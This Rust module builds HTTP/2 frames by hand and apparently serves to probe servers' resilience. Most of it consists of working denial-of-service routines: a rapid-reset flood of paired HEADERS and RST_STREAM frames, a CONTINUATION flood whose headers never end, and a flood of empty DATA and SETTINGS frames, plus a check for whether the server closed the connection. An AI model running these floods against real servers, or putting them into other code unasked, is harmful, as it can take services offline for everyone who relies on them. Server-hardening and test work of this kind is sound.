//! HTTP/2 by hand, frame by frame: what no client of good manners would send.
//!
//! Source: RFC 9113 (frames), RFC 7541 (headers; here always written out, never from a table).

use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const ACK: u8 = 1;
const END_HEADERS: u8 = 4;
/// The reason of a reset: the stream is not needed any more.
const CANCEL: u32 = 8;

/// A connection of HTTP/2 by prior knowledge.
#[derive(Debug)]
pub struct Frames {
    stream: TcpStream,
    next: u32,
}

/// A frame as it goes over the wire.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut out = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// A text of headers: its length, seven bits in the first byte and in those after it.
fn text(out: &mut Vec<u8>, text: &str) {
    if text.len() < 127 {
        out.push(text.len() as u8);
    } else {
        out.push(127);
        let mut rest = text.len() - 127;
        while rest >= 128 {
            out.push((rest % 128) as u8 | 128);
            rest /= 128;
        }
        out.push(rest as u8);
    }
    out.extend_from_slice(text.as_bytes());
}

fn fields(fields: &[(&str, &str)]) -> Vec<u8> {
    let mut out = Vec::new();
    for (name, value) in fields {
        out.push(0);
        text(&mut out, name);
        text(&mut out, value);
    }
    out
}

fn get(target: &str) -> Vec<u8> {
    fields(&[(":method", "GET"), (":scheme", "http"), (":authority", "x"), (":path", target)])
}

impl Frames {
    /// Connects, says the preface and settings that are the defaults.
    ///
    /// # Errors
    /// The connection failed.
    pub fn connect(address: SocketAddr) -> io::Result<Self> {
        let mut stream = TcpStream::connect(address)?;
        stream.set_nodelay(true)?;
        stream.set_read_timeout(Some(Duration::from_secs(30)))?;
        stream.set_write_timeout(Some(Duration::from_secs(10)))?;
        stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")?;
        stream.write_all(&frame(SETTINGS, 0, 0, &[]))?;
        stream.write_all(&frame(SETTINGS, ACK, 0, &[]))?;
        Ok(Self { stream, next: 1 })
    }

    /// Begins a GET; gives the number of its stream.
    ///
    /// # Errors
    /// The connection failed.
    pub fn get(&mut self, target: &str) -> io::Result<u32> {
        let number = self.next;
        self.next += 2;
        self.stream.write_all(&frame(HEADERS, END_HEADERS | END_STREAM, number, &get(target)))?;
        Ok(number)
    }

    /// Leaves a stream.
    ///
    /// # Errors
    /// The connection failed.
    pub fn reset(&mut self, number: u32) -> io::Result<()> {
        self.stream.write_all(&frame(RST_STREAM, 0, number, &CANCEL.to_be_bytes()))
    }

    /// Begins and leaves `count` streams at once.
    ///
    /// # Errors
    /// The connection failed; the server may have had enough.
    pub fn rapid_reset(&mut self, target: &str, count: usize) -> io::Result<()> {
        let headers = get(target);
        for _ in 0..count {
            let number = self.next;
            self.next += 2;
            let mut both = frame(HEADERS, END_HEADERS | END_STREAM, number, &headers);
            both.extend_from_slice(&frame(RST_STREAM, 0, number, &CANCEL.to_be_bytes()));
            self.stream.write_all(&both)?;
        }
        Ok(())
    }

    /// Headers that never end: `count` frames of `bytes` each.
    ///
    /// # Errors
    /// The connection failed; the server may have had enough.
    pub fn continuation_flood(&mut self, count: usize, bytes: usize) -> io::Result<()> {
        self.stream.write_all(&frame(HEADERS, END_STREAM, self.next, &get("/")))?;
        let more = fields(&[("x", &"y".repeat(bytes))]);
        for _ in 0..count {
            self.stream.write_all(&frame(CONTINUATION, 0, self.next, &more))?;
        }
        Ok(())
    }

    /// Frames of a kind that costs the server an answer, or nothing at all: empty data, settings.
    ///
    /// # Errors
    /// The connection failed; the server may have had enough.
    pub fn empty_frames(&mut self, count: usize) -> io::Result<()> {
        let number = self.next;
        self.next += 2;
        let head = fields(&[
            (":method", "POST"),
            (":scheme", "http"),
            (":authority", "x"),
            (":path", "/api/v1/write"),
        ]);
        self.stream.write_all(&frame(HEADERS, END_HEADERS, number, &head))?;
        for _ in 0..count {
            let mut both = frame(DATA, 0, number, &[]);
            both.extend_from_slice(&frame(SETTINGS, 0, 0, &[]));
            self.stream.write_all(&both)?;
        }
        Ok(())
    }

    /// Takes what comes until the server closes, or nothing comes for `patience`; says whether it closed.
    pub fn is_closed_within(&mut self, patience: Duration) -> bool {
        let _ = self.stream.set_read_timeout(Some(patience));
        let mut piece = [0; 16 << 10];
        loop {
            match self.stream.read(&mut piece) {
                Ok(0) => return true,
                Ok(_) => {}
                Err(e) => {
                    return !matches!(e.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut);
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lengths_and_texts() {
        assert_eq!(frame(RST_STREAM, 0, 3, &[0, 0, 0, 8]), b"\0\0\x04\x03\0\0\0\0\x03\0\0\0\x08");
        let mut out = Vec::new();
        text(&mut out, &"a".repeat(1_337 + 127));
        assert_eq!(out[..3], [127, 0b1011_1001, 10], "as RFC 7541, 5.1 writes 1337 beyond its prefix");
    }
}
